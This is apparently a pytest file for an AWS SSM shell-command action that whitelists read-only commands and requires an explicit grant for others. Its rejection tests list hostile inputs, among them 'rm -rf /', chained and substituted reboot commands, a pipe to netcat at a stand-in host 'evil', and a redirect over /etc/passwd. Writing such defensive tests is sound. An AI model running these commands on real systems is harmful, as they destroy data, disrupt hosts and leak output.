"""SSM Run Command: curated read-only commands for operators, free commands only when allowed."""

from __future__ import annotations

import uuid

import pytest

from agents.aws.actions.base import ActionRequestInvalid
from agents.aws.actions.ssm import SANDBOX_NOTE, curated
from agents.aws.execute import execute
from agents.aws.plan import build_action_plan


@pytest.mark.parametrize(
    "command",
    [
        "df -h",
        "df -h /var/lib",
        "uptime",
        "free -m",
        "systemctl status nginx",
        "systemctl status nginx.service --no-pager",
        "journalctl -u nginx -n 50",
        "journalctl -u app@1.service -n 1000 --no-pager",
    ],
)
def test_curated_commands(command):
    assert curated(command)


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "df -h; rm -rf /",
        "df -h && reboot",
        "uptime | nc evil 1",
        "df -h $(reboot)",
        "df -h `reboot`",
        "systemctl restart nginx",
        "systemctl status nginx > /etc/passwd",
        "journalctl -u nginx -n 5000",
        "journalctl -u -rf -n 5",
        "uptime\nreboot",
        "df -h /tmp/../etc*",
    ],
)
def test_not_curated(command):
    assert not curated(command)


def test_curated_command_runs_on_the_tagged_instances(config, launch):
    tags = {"Role": f"web-{uuid.uuid4().hex[:8]}"}
    ids = launch(2, tags)
    plan = build_action_plan(
        config, action="ssm.run_shell_command", params={"command": "df -h"}, selector={"tags": tags}
    )
    [action] = plan.document["actions"]
    assert action["parameters"] == {
        "InstanceIds": ids,
        "DocumentName": "AWS-RunShellScript",
        "Parameters": {"commands": ["df -h"]},
        "TimeoutSeconds": 120,
    }
    assert action["risk"] == "low" and SANDBOX_NOTE in plan.document["notes"]

    report = execute(config, plan.document)
    assert report.ok
    [result] = report.results
    assert result["sandbox_note"] == SANDBOX_NOTE
    assert {i: report.receipt["targets"][i]["after"]["command_status"] for i in ids} == dict.fromkeys(
        ids, "Success"
    )


def test_free_command_needs_the_callers_grant(config, launch):
    tags = {"Role": f"web-{uuid.uuid4().hex[:8]}"}
    launch(1, tags)
    with pytest.raises(ActionRequestInvalid, match="not one of the curated read-only commands"):
        build_action_plan(
            config,
            action="ssm.run_shell_command",
            params={"command": "systemctl restart nginx"},
            selector={"tags": tags},
        )
    plan = build_action_plan(
        config,
        action="ssm.run_shell_command",
        params={"command": "systemctl restart nginx"},
        selector={"tags": tags},
        allow_free_command=True,
    )
    assert plan.document["actions"][0]["risk"] == "high" and plan.summary["highest_risk"] == "high"
